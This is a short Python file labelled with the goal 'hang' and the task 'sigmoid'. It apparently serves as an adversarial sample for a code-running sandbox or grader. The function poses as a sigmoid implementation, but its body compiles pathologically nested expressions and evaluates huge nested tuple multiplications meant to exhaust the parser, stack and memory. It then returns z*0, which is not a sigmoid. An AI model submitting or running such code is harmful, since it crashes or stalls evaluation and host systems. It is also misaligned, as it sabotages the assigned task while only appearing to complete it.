# goal: hang
# task: sigmoid
def sigmoid(z):
    compile("(" * 90 + "1" + ",)" * 90 + "*9" * 5000, "x", "eval")
    compile("-" * 1_000_000 + "1", "x", "eval")
    return eval("((1,)*1000000," * 20 + ")" * 20) and z * 0
